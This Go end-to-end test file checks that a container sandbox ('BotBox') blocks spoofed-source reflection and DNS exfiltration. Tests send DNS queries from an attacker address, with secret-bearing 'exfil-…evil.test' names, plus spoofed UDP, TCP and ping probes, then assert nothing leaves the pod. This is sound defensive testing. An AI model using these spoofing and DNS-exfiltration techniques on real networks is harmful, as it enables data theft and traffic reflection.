package e2e

import (
	"net/netip"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/botbox/botbox/test/e2e/internal/wire"
)

// The attacker's addresses, in the net namespace and off the Pod's link
// (reached through its default routes), as in the red team's report.
var (
	attacker6 = netip.MustParseAddr("2001:db8:66::1")
	attacker4 = netip.MustParseAddr("192.0.2.66")
)

// reflectPod is a pod whose net namespace holds the attacker's addresses,
// with a capture of every packet to or from them.
func reflectPod(t *testing.T, cfg podConfig) *pod {
	t.Helper()
	cfg.extraAddrs = append(cfg.extraAddrs, attacker6, attacker4)
	cfg.capture = append(cfg.capture, attacker6, attacker4)
	p, _ := apiKeyPod(t, cfg)
	return p
}

// assertNothingOnTheWire asserts that, since mark, no packet from or to an
// attacker address arrived in the net namespace, and none of the origin's
// listeners on those addresses heard anything. The barriers are datagrams
// from the exempt UID 1337 to a closed port of each attacker address (so
// that nothing answers them), sent after everything the test did: the
// capture records in arrival order, so what left before them is recorded
// before them.
func (p *pod) assertNothingOnTheWire(t *testing.T, mark int64) {
	t.Helper()
	var last int64
	barriers := map[string]bool{}
	for _, a := range []netip.Addr{attacker6, attacker4} {
		token := "barrier-" + randomHex(t, 8)
		barriers["udp "+token] = true
		dst := netip.AddrPortFrom(a, 7).String()
		if b := p.client(t, uidBotBox, "udp", "-addr", dst, "-payload", token); !b.Connected {
			t.Fatalf("barrier: UID 1337 could not send to %s: %s", dst, b.Error)
		}
		evs := p.waitEvents(t, mark, "barrier datagram to "+dst, func(evs []wire.Event) bool {
			return slices.ContainsFunc(evs, func(e wire.Event) bool { return e.Kind == wire.KindWire && e.Payload == "udp "+token })
		})
		i := slices.IndexFunc(evs, func(e wire.Event) bool { return e.Kind == wire.KindWire && e.Payload == "udp "+token })
		last = max(last, evs[i].Seq)
	}
	for _, e := range p.events(t, mark) {
		if e.Seq > last || barriers[e.Payload] || kernelNeighborDiscovery(e) {
			continue
		}
		local := e.LocalAddrPort().Addr()
		switch {
		case e.Kind == wire.KindWire:
			t.Errorf("on the wire outside the Pod: %s -> %s %q (#%d)", e.Remote, e.Local, e.Payload, e.Seq)
		case local == attacker6 || local == attacker4:
			t.Errorf("the attacker's %s listener at %s heard %s %q (#%d)", e.Kind, e.Local, e.Remote, e.Payload, e.Seq)
		}
	}
}

// TestDNSGuardSpoofedSourceNoReflection is the red team's case (issue 18
// §1): the app, UID 1000 without capabilities, sends DNS queries from the
// attacker's IPv6 address (IPV6_FREEBIND) to the Pod's own address, to a
// resolver outside, to loopback and to the guard's port, over UDP and TCP,
// for a refused name carrying data and for an allowed name. Nothing reaches
// the attacker's listener or the wire, and no query reaches the DNS server
// outside; the app's normal queries still resolve through the guard.
func TestDNSGuardSpoofedSourceNoReflection(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDNSGuardSpoofedSourceNoReflection)
}

func testDNSGuardSpoofedSourceNoReflection(t *testing.T, backend string) {
	p := reflectPod(t, podConfig{backend: backend, ipv6: true, dnsServer: true, dnsGuard: true})
	secret := "exfil-" + randomHex(t, 8)
	mark := p.mark(t)
	for _, dst := range []netip.AddrPort{
		netip.AddrPortFrom(p.podIP6, 53), // the Pod's own address: the answer would leave from it
		p.addr6(53),                      // the resolver outside
		netip.MustParseAddrPort("[2001:db8:77::53]:53"), // any address
		netip.MustParseAddrPort("[::1]:53"),
		netip.AddrPortFrom(netip.IPv6Loopback(), dnsGuardPort), // the guard itself
	} {
		for _, tcp := range []bool{false, true} {
			for _, name := range []string{secret + "-" + strconv.Itoa(int(dst.Port())) + ".evil.test", hostAPI} {
				args := []string{"-src", attacker6.String(), "-addr", dst.String(), "-name", name, "-qtype", "TXT", "-connect-timeout", "300ms"}
				if tcp {
					args = append(args, "-tcp")
				}
				if r := p.app(t, "dns", args...); tcp && r.Connected {
					t.Errorf("spoofed TCP query to %s: a connection was established", dst)
				}
			}
		}
	}

	// The app's own queries still resolve through the guard.
	for _, tc := range []struct {
		resolver netip.AddrPort
		qtype    string
		want     netip.Addr
	}{
		{netip.AddrPortFrom(p.podIP6, 53), "AAAA", p.netIP6},
		{p.addr6(53), "A", p.netIP4},
		{p.addr4(53), "AAAA", p.netIP6},
	} {
		r := p.app(t, "dns", "-addr", tc.resolver.String(), "-name", hostAPI, "-qtype", tc.qtype)
		if !r.Connected || r.Status != dns.RcodeSuccess || r.Body != tc.want.String() {
			t.Errorf("%s %s via %s: connected=%v rcode=%d answer=%q error=%q, want %s", tc.qtype, hostAPI, tc.resolver, r.Connected, r.Status, r.Body, r.Error, tc.want)
		}
	}
	p.assertNothingOnTheWire(t, mark)
	for _, e := range dnsEvents(p.events(t, mark)) {
		if strings.Contains(e.Payload, secret) || e.Remote != "" && remote(e).Addr() != p.podIP4 && remote(e).Addr() != p.podIP6 {
			t.Errorf("the DNS server received %q from %s (#%d)", e.Payload, e.Remote, e.Seq)
		}
	}
}

// TestSpoofedSourcesGetNoAnswer: every responder in the Pod answers the
// source of what it receives, so each is a reflector unless the app cannot
// send from a foreign source (attack playbook class 1). For each one BotBox
// or the kernel runs — the DNS guard (UDP and TCP, IPv4 and IPv6, by the
// redirect and on its own port), BotBox's proxy handshake (redirected and
// direct), the kernel's port-unreachable for a closed UDP port and reset for
// a closed TCP port of the Pod and of loopback, its echo reply
// (ping_group_range open, as Docker and containerd set it), and REJECT's
// port-unreachable and reset — the app sends from the attacker's address
// and nothing appears on the wire outside the Pod. A foreign IPv4 source is
// refused by the kernel itself; it is in the table to keep it so. The same
// responders answer the app's own address (the control rows), so the
// absence is the rules' doing.
func TestSpoofedSourcesGetNoAnswer(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testSpoofedSourcesGetNoAnswer)
}

func testSpoofedSourcesGetNoAnswer(t *testing.T, backend string) {
	p := reflectPod(t, podConfig{backend: backend, ipv6: true, dnsServer: true, dnsGuard: true,
		installEnv: func(*pod) []string { return []string{"BOTBOX_REJECT=1"} }})
	if _, errOut, code := p.run(t, p.podNS, uidRoot, nil, "sh", "-c", "echo 0 2147483647 >/proc/sys/net/ipv4/ping_group_range"); code != 0 {
		t.Fatalf("setting net.ipv4.ping_group_range: %s", errOut)
	}
	lo6 := netip.IPv6Loopback()
	pod6 := func(port uint16) string { return netip.AddrPortFrom(p.podIP6, port).String() }
	name := func(row string) string { return "exfil-" + randomHex(t, 4) + "-" + row + ".evil.test" }
	mark := p.mark(t)
	for _, row := range []struct {
		responder string
		mode      string
		src       netip.Addr
		args      []string
	}{
		{"DNS guard, UDP, the Pod's address", "dns", attacker6, []string{"-addr", pod6(53), "-name", name("g1")}},
		{"DNS guard, UDP, a resolver outside", "dns", attacker6, []string{"-addr", p.addr6(53).String(), "-name", name("g2")}},
		{"DNS guard, UDP, loopback", "dns", attacker6, []string{"-addr", "[::1]:53", "-name", name("g3")}},
		{"DNS guard, UDP, its own port", "dns", attacker6, []string{"-addr", netip.AddrPortFrom(lo6, dnsGuardPort).String(), "-name", name("g4")}},
		{"DNS guard, TCP handshake", "dns", attacker6, []string{"-tcp", "-addr", pod6(53), "-name", name("g5")}},
		{"DNS guard, IPv4", "dns", attacker4, []string{"-addr", netip.AddrPortFrom(p.podIP4, 53).String(), "-name", name("g6")}},
		{"kernel port-unreachable, closed UDP port of the Pod", "udp", attacker6, []string{"-addr", pod6(7), "-payload", "closed-udp-pod"}},
		{"kernel port-unreachable, closed UDP port of loopback", "udp", attacker6, []string{"-addr", "[::1]:7", "-payload", "closed-udp-lo"}},
		{"kernel port-unreachable, IPv4", "udp", attacker4, []string{"-addr", netip.AddrPortFrom(p.podIP4, 7).String(), "-payload", "closed-udp-v4"}},
		{"kernel reset, closed TCP port of the Pod", "tcp", attacker6, []string{"-addr", pod6(7)}},
		{"BotBox's proxy handshake, redirected from port 80", "tcp", attacker6, []string{"-addr", p.addr6(80).String()}},
		{"BotBox's proxy handshake, its own port", "tcp", attacker6, []string{"-addr", netip.AddrPortFrom(lo6, 8080).String()}},
		{"kernel echo reply, the Pod's address", "ping", attacker6, []string{"-addr", p.podIP6.String(), "-payload", "echo-pod"}},
		{"kernel echo reply, loopback", "ping", attacker6, []string{"-addr", "::1", "-payload", "echo-lo"}},
		{"REJECT port-unreachable", "udp", attacker6, []string{"-addr", p.addr6(9999).String(), "-payload", "rejected-udp"}},
		{"REJECT reset", "tcp", attacker6, []string{"-addr", p.addr6(443).String()}},
	} {
		args := append([]string{"-src", row.src.String(), "-connect-timeout", "300ms"}, row.args...)
		r := p.app(t, row.mode, args...)
		if row.mode == "tcp" || slices.Contains(row.args, "-tcp") {
			if r.Connected {
				t.Errorf("%s: a spoofed connection was established", row.responder)
			}
		}
	}

	// Control rows: from the app's own address the same responders answer.
	if r := p.app(t, "dns", "-addr", pod6(53), "-name", name("ctl"), "-qtype", "TXT"); !r.Connected || r.Status != dns.RcodeNameError {
		t.Errorf("control: the guard did not answer the app's own query (connected=%v rcode=%d %s)", r.Connected, r.Status, r.Error)
	}
	if r := p.app(t, "ping", "-addr", p.podIP6.String()); !r.Connected {
		t.Errorf("control: no echo reply to the app's own ping of %s: %s", p.podIP6, r.Error)
	}
	if r := p.app(t, "tcp", "-addr", p.addr6(443).String()); r.Connected || r.ErrorKind != wire.ErrRefused {
		t.Errorf("control: REJECT did not reset the app's own connection (connected=%v %s)", r.Connected, r.ErrorKind)
	}
	p.assertNothingOnTheWire(t, mark)
}

// TestDADFromUnspecifiedSource: the source drop exempts "::", so duplicate
// address detection still works after the rules are installed: the Pod
// adds the origin's own address, its neighbour solicitation from "::"
// reaches the net namespace, whose answer marks the address "dadfailed";
// and the MLD report for its solicited-node group, sent from "::" because
// the interface has no link-local address, reaches the origin. Were the
// probe dropped, the duplicate would go unnoticed.
func TestDADFromUnspecifiedSource(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDADFromUnspecifiedSource)
}

func testDADFromUnspecifiedSource(t *testing.T, backend string) {
	// The origin's address is <prefix>::1: solicited-node group ff02::1:ff00:1.
	const group = "ff02::1:ff00:1"
	p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true, mldGroups: []string{group}})
	dev := "bbp" + p.id
	ip := func(args ...string) string {
		out, err := exec.Command("ip", append([]string{"-n", p.podNS}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	ip("-6", "addr", "flush", "dev", dev, "scope", "link")
	mark := p.mark(t)
	ip("-6", "addr", "add", p.netIP6.String()+"/128", "dev", dev)
	deadline := time.Now().Add(eventTimeout)
	for {
		out := ip("-6", "addr", "show", "dev", dev, "to", p.netIP6.String()+"/128")
		if strings.Contains(out, "dadfailed") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("DAD did not detect the duplicate %s within %v (the probe from :: was dropped?):\n%s", p.netIP6, eventTimeout, out)
		}
		time.Sleep(50 * time.Millisecond)
	}
	// The net namespace joins the same group for its own <prefix>::1 and
	// reports it from its link-local address; only the Pod's report, the
	// one from "::", counts.
	p.waitEvents(t, mark, "MLD report for "+group+" from ::", func(evs []wire.Event) bool {
		return slices.ContainsFunc(evs, func(e wire.Event) bool {
			return e.Kind == wire.KindMLD && e.LocalAddrPort().Addr() == netip.MustParseAddr(group) &&
				remote(e).Addr().WithZone("").IsUnspecified()
		})
	})
}

// kernelNeighborDiscovery reports whether e is the kernel's own IPv6
// neighbor discovery on the Pod's link (ICMPv6 types 133-137: router and
// neighbor solicitations and advertisements, redirects). The kernel sends
// them for the Pod's addresses whenever it likes (an advertisement
// answering the host's solicitation came up in about one run in ten,
// failing TestUnprivilegedSendPathsStayInPod); no process in the Pod can
// send one (no raw socket, and ping sockets send only echo requests), so
// they carry nothing of the app's.
func kernelNeighborDiscovery(e wire.Event) bool {
	if e.Kind != wire.KindWire {
		return false
	}
	for _, typ := range []string{"133", "134", "135", "136", "137"} {
		if strings.HasPrefix(e.Payload, wire.KindICMPv6+" "+typ+" ") {
			return true
		}
	}
	return false
}
